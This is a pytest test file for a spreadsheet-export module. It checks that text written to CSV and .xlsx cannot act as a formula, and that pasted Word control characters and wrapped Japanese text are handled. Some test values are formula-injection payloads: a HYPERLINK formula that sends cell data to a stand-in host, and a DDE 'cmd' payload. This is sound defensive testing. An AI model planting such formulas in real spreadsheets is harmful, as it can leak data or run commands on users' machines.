"""The one rule for text written into spreadsheets (plans/spreadsheet_cells.py), without a
database: CSV cells are neutralised and read back exactly, .xlsx text is never a formula."""

import csv
import io
import re

import pytest
import tablib
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from plans.spreadsheet_cells import (
    LINE_POINTS,
    CsvWriter,
    TextStyle,
    csv_cell,
    csv_text,
    dataset_xlsx,
    text_lines,
    xlsx_row_height,
    xlsx_row_xml,
)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[\d,]+(\.\d+)?")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=前年度比で増加", "'=前年度比で増加"),
        ('=HYPERLINK("http://x.example/?"&A1,"x")', '\'=HYPERLINK("http://x.example/?"&A1,"x")'),
        ("+1件増", "'+1件増"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),  # one more, so that reading gives it back
        ("-5", "-5"),  # a plain number stays a number
        ("+1.5", "+1.5"),
        ("-1,200", "-1,200"),
        ("-1,2", "'-1,2"),  # not a number Excel would read: neutralised like any text
        ("- 5", "'- 5"),
        ("区づくり推進事業", "区づくり推進事業"),
        ("'quoted text", "'quoted text"),
        ("", ""),
        (5, 5),
        (None, None),
    ],
)
def test_csv_cells_are_neutralised_and_read_back(value, written):
    assert csv_cell(value) == written
    if isinstance(value, str):
        assert csv_text(written) == value


@given(st.text())
def test_any_text_survives_csv_cell_then_csv_text(text):
    written = csv_cell(text)
    assert csv_text(written) == text
    assert (
        not written.startswith(FORMULA_START)
        or written.lstrip("+-").replace(",", "").replace(".", "").isdigit()
    )


def test_csv_writer_writes_every_row_through_the_rule():
    buffer = io.StringIO()
    CsvWriter(buffer, lineterminator="\r\n").writerow([1, "=1+1", "-5", None])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["1", "'=1+1", "-5", ""]]


# XML keeps neither the control characters openpyxl refuses nor a carriage return (a line
# end is read back as "\n"): text typed into the portal never holds them.
XLSX_TEXT = st.text().map(lambda text: ILLEGAL_CHARACTERS_RE.sub("", text).replace("\r", ""))


@given(st.lists(XLSX_TEXT, min_size=1, max_size=5))
def test_any_text_is_a_text_cell_in_xlsx(texts):
    dataset = tablib.Dataset(headers=[f"列{n}" for n in range(len(texts))])
    dataset.append(texts)
    sheet = load_workbook(io.BytesIO(dataset_xlsx(dataset))).active
    for cell, text in zip(sheet[2], texts, strict=False):
        if text:
            assert (cell.data_type, cell.value) == ("s", text)
    assert [cell.value for cell in sheet[1]] == dataset.headers


def test_text_that_starts_like_a_formula_keeps_excel_s_quote_prefix():
    dataset = tablib.Dataset(["=1+1", "普通の文字", 5], headers=["a", "b", "c"])
    sheet = load_workbook(io.BytesIO(dataset_xlsx(dataset))).active
    a2, b2, c2 = sheet[2]
    assert (a2.value, a2.data_type, a2.quotePrefix) == ("=1+1", "s", True)
    assert (b2.data_type, b2.quotePrefix) == ("s", False)
    assert (c2.value, c2.data_type) == (5, "n")
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_control_characters_pasted_from_word_do_not_break_an_xlsx():
    """A vertical tab is Word's manual line break; XML (and so .xlsx) cannot hold it."""
    dataset = tablib.Dataset(headers=["要因分析"])
    dataset.append(["一行目\x0b二行目\x07\x00"])
    workbook = load_workbook(io.BytesIO(dataset_xlsx(dataset)))
    assert workbook.active["A2"].value == "一行目\n二行目"


@pytest.mark.parametrize(
    ("text", "width", "lines"),
    [
        ("", 10, 1),
        ("a" * 9, 10, 1),  # a column of 10 holds 9 characters beside its padding
        ("a" * 10, 10, 2),
        ("あ" * 4, 10, 1),  # a wide character takes two columns
        ("あ" * 5, 10, 2),
        ("ＡＢＣ１２", 10, 2),  # full-width letters and digits too
        ("ｱｲｳｴｵｶｷｸｹ", 10, 1),  # half-width kana do not
        ("一行目\n二行目\n", 10, 2),  # each line break starts a line
        ("あ" * 10 + "\n" + "a", 10, 4),
    ],
)
def test_wrapped_text_lines(text, width, lines):
    assert text_lines(text, width) == lines


def test_a_row_is_as_high_as_its_tallest_wrapped_cell():
    widths = [10, None, 20]
    assert xlsx_row_height(["短い", "x" * 100, "短い"], widths) is None  # column 2 does not wrap
    assert xlsx_row_height(["あ" * 12, None, 5], widths) == 3 * LINE_POINTS
    assert (
        '<row r="\x00" spans="1:3" ht="54" customHeight="1">'
        in xlsx_row_xml(["あ" * 12, None, 5], [TextStyle(1, 2)] * 3, widths).xml
    )
